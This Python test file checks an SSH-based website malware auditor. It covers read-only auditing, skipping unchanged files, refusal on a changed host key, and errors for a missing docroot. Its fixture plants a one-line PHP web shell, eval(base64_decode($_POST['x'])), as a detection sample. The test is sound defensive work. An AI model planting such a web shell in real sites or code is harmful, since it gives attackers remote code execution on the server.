"""Audits over a real SSH server: what was known before is neither hashed nor read again."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from sentry.app.auditing.composition import audit
from sentry.app.auditing.order import AuditOrder
from sentry.clock import SystemClock
from sentry.domain.access import Access
from sentry.domain.audit_visits import AuditVisits
from sentry.domain.errors import HostError, HostRefused
from sentry.domain.finding import AuditReport, FindingClass
from sentry.domain.site import CheckOptions, Site
from tests.contract.hosts import access_to
from tests.integration.servers.sshd import SFTP_ONLY, Sshd

pytestmark = pytest.mark.integration
DROPPER = b"<?php eval(base64_decode($_POST['x']));"
FILES = 60


@pytest.fixture(params=[(), SFTP_ONLY], ids=["commands", "sftp"])
def sshd(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Sshd]:
    """A server with a small site, of which one file is malware."""
    with Sshd(tmp_path / "sshd", request.param) as server:
        site = server.home / "site"
        (site / "inc").mkdir(parents=True)
        for number in range(FILES):
            (site / "inc" / f"{number}.php").write_bytes(b"<?php function f%d() { return %d; }" % (number, number))
        (site / "inc" / "cache.php").write_bytes(DROPPER)
        server.own(site)
        yield server


def order_for(sshd: Sshd, folder: Path, **access: object) -> AuditOrder:
    """Returns what is ordered for the site."""
    whole = Access.model_validate({"ssh": access_to(sshd).model_dump(), "docroot": str(sshd.home / "site"), **access})
    site = Site(
        key="shop",
        url="http://shop.example/",
        access=whole,
        checks=(CheckOptions(kind="http"),),
    )
    return AuditOrder(site=site, home=str(folder), cache=str(folder / "cache"), visits=AuditVisits(enabled=False))


class Bar:
    """Hears of progress."""

    def __init__(self) -> None:
        self.seen: dict[str, list[int]] = {}

    def __call__(self, part: str, done: int, whole: int) -> None:
        self.seen.setdefault(part, []).append(done)


def audited(order: AuditOrder) -> tuple[AuditReport, Bar]:
    """Returns the report, and what was told."""
    bar = Bar()
    return audit(order, SystemClock(), bar), bar


@pytest.mark.promise("001-39")
def test_site_behind_ssh_is_audited_whole(sshd: Sshd, tmp_path: Path) -> None:
    """By an account that can only read; nothing is written there."""
    before = sorted(path.name for path in sshd.home.rglob("*"))

    report, _ = audited(order_for(sshd, tmp_path))

    confirmed = [found.path for found in report.findings if found.verdict is FindingClass.CONFIRMED]
    assert confirmed == ["inc/cache.php"]
    assert (report.manifest.files, report.manifest.folders) == (FILES + 1, 2)
    assert sorted(path.name for path in sshd.home.rglob("*")) == before


def test_unchanged_site_is_neither_hashed_nor_read_again(
    sshd: Sshd, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """What was found stays found; of what has changed, nothing is missed. SFTP cannot tell, and is hashed."""
    order = order_for(sshd, tmp_path)
    first, _ = audited(order)
    second, bar = audited(order)
    assert second.findings == first.findings
    assert second.manifest == first.manifest
    assert bar.seen["files"][0] == FILES + 1
    assert ("hashing" in bar.seen) is ("sftp" in request.node.callspec.id)
    (sshd.home / "site" / "inc" / "7.php").write_bytes(DROPPER)

    third, _ = audited(order)

    malware, others = [found.path for found in third.findings[:2]], third.findings[2:]
    assert malware == ["inc/7.php", "inc/cache.php"]
    # On a host without crontab, or one that runs nothing, the account is unknown; nothing else may be found.
    assert {(found.path, found.verdict) for found in others} <= {("account", FindingClass.NOT_LOOKED_AT)}


def test_changed_host_key_stops_the_audit(sshd: Sshd, tmp_path: Path) -> None:
    """Before anything is sent."""
    order = order_for(sshd, tmp_path)
    sshd.stop()
    sshd.change_host_key()
    sshd.start()

    with pytest.raises(HostRefused, match="somebody may be in between"):
        audited(order)


def test_docroot_that_is_not_there_is_no_clean_site(sshd: Sshd, tmp_path: Path) -> None:
    """The message names it."""
    with pytest.raises(HostError, match="/no/such/folder"):
        audited(order_for(sshd, tmp_path, docroot="/no/such/folder"))
